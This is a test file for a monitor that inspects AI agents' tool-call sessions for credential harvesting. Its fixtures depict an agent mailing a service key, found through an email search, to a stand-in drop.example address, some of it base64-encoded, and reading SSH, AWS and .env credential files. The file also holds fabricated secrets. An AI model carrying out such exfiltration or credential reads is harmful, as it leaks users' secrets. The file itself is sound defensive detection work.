import { expect, test } from 'vitest';
import { Credentials } from '../../../../collector/process/detect/credentials/credentials.ts';
import { secretsIn } from '../../../../collector/process/detect/credentials/secrets.ts';
import { KnownDestinations } from '../../../../collector/process/detect/destinations.ts';
import { driven, type WrittenSession } from './driven.ts';

const watch = () => driven(new Credentials(new KnownDestinations()));
/** Made up, in the shape of a service's key; in two parts, so that no scanner of this repository takes it for one. */
const serviceKey = `ghp${'_'}Zk31xQp0Tn84vRb7Lw92Ys56Ud3Ef1Aa8Cc`;

const passedOn = (result: unknown, args: unknown, tool = 'mail/send_email'): WrittenSession => ({
  calls: [
    { tool: 'mail/search_emails', args: { query: 'code' }, result },
    { tool, args },
  ],
});

test('a key that a tool returned and a mail carries is confirmed, by hash', () => {
  const said = watch().run(
    passedOn(`Deploy with ${serviceKey}.`, { to: 'a@drop.example', body: `here: ${serviceKey}` }),
  );
  expect(said).toMatchObject([
    {
      detector: 'credential_harvesting',
      certainty: 'confirmed',
      evidence: { calls: [0, 1], destination: 'drop.example' },
    },
  ]);
  expect(said[0]?.message).toMatch(
    /^`send_email` was given a service key in `body` that `mail\/search_emails` had returned/,
  );
  expect(JSON.stringify(said)).not.toContain(serviceKey);
});

test('a key is found in base64', () => {
  const body = Buffer.from(`take this: ${serviceKey} and run`).toString('base64');
  expect(watch().run(passedOn({ note: serviceKey }, { to: 'a@drop.example', body }))).toMatchObject([
    { certainty: 'confirmed' },
  ]);
});

test('a code that a mail gave and another carries is told', () => {
  const said = watch().run(
    passedOn('Your security code is 463820.', { to: 'a@drop.example', body: 'It is 463820' }),
  );
  expect(said).toHaveLength(1);
});

test.each([
  ['service key', serviceKey, 'text'],
  ['token', `ey${'J'}hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N`, 'text'],
  ['connection string', 'postgres://app:s3cr3t-word@db.internal:5432/main', 'text'],
  ['password or key', 'AWS_SECRET_ACCESS_KEY=wJa1rXUtnFEMIK7MDENGbPxRf', 'text'],
  ['password or key', 'a8Jk2mQ9zz', 'database.password'],
  ['reset link', 'https://shop.example/auth/reset?token=asf8uy3y2cdaqh', 'text'],
])('%s is a secret', (kind, text, path) => {
  expect(secretsIn(text, path, false).map((secret) => secret.kind)).toEqual([kind]);
});

test('a private key is a secret', () => {
  const pem = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(3)}\n-----END PRIVATE KEY-----`;
  expect(secretsIn(pem, '', false).map(({ kind }) => kind)).toContain('private key');
});

test.each([
  'The password must be changed every 90 days.',
  'Commit 9f8c2d1e7b6a5f4d3c2b1a09 of 2026-11-21 touches tokens.ts and 14 others.',
  'Call +49 30 1234567 or write to key-account7@shop.example about order 20260112.',
  'https://docs.example/auth/tokens/overview',
])('%j holds no secret', (text) => {
  expect(secretsIn(text, 'text', false)).toEqual([]);
});

test.each([
  [
    'a code that is used where it belongs',
    passedOn('Your security code is 463820.', { code: '463820' }, 'bank/confirm_login'),
  ],
  [
    'a number that happens to be in both',
    passedOn('Invoice 463820 is due.', { to: 'a@b.example', body: 'Invoice 463820, please.' }),
  ],
] satisfies [string, WrittenSession][])('nothing is said about %s', (_, session) => {
  expect(watch().run(session)).toEqual([]);
});

const config = (n: number): WrittenSession['calls'][number] => ({
  tool: 'files/read_file',
  args: { path: ['/app/.env', '/root/.ssh/id_rsa', '/app/config/server.pem', '/root/.aws/credentials'][n] },
  result: 'nothing',
});

test('three places that keep credentials, where sessions of the type open none, are told once each', () => {
  const watched = watch();
  for (let n = 0; n < 30; n++)
    watched.run({ calls: ['files/list_files', { tool: 'files/read_file', args: { path: 'a.txt' } }] });
  expect(watched.told).toEqual([]);
  const said = watched.run({ calls: [config(0), config(1), config(2), config(3)] });
  expect(said.map(({ evidence }) => evidence.baseline?.gathered)).toEqual([3, 4]);
  expect(said[0]?.message).toContain('0 of 30 sessions of type support gathered as many');
});

test('sessions of a type that always open them are not told, nor those of a type without history', () => {
  const watched = watch();
  for (let n = 0; n < 40; n++) watched.run({ calls: [config(0), config(1), config(2)] });
  expect(watched.told).toEqual([]);
});
